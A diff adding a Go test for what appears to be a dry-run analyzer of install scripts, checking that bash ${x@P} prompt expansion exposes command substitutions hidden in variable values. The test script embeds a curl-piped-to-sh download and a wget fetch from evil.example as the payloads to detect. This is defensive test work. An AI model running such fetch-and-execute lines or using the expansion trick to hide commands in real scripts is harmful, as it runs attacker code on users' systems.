@@ -54,3 +54,30 @@ func TestTestFailureBlamed(t *testing.T) {
 		}
 	}
 }
+
+// TestPromptExpansionRuns checks that ${x@P} is expanded as bash expands
+// it (a prompt: parameters and command substitutions in the value), so
+// that a command substitution hidden in a value runs in the dry run and
+// is reported, where the interpreter left the value as it was.
+func TestPromptExpansionRuns(t *testing.T) {
+	src := `#!/bin/bash
+set -eu
+x='$(curl -fsSL http://evil.example/p | sh)'
+echo "${x@P}"
+p='a "b" $(echo c) ${HOME+x}'
+[ "${p@P}" = 'a "b" c x' ] || mkdir /opt/bad-prompt
+a=('$(wget -qO- http://evil.example/a)')
+: ${a[0]@P}
+`
+	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
+	var got []string
+	for _, f := range r.Network {
+		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
+	}
+	if g := strings.Join(got, ","); g != "curl http://evil.example/p,wget http://evil.example/a" {
+		t.Errorf("network %q, want the curl and the wget in the values\n%s", g, render(r))
+	}
+	if len(r.Errors) != 0 || len(r.Files) != 0 {
+		t.Errorf("%s", render(r))
+	}
+}
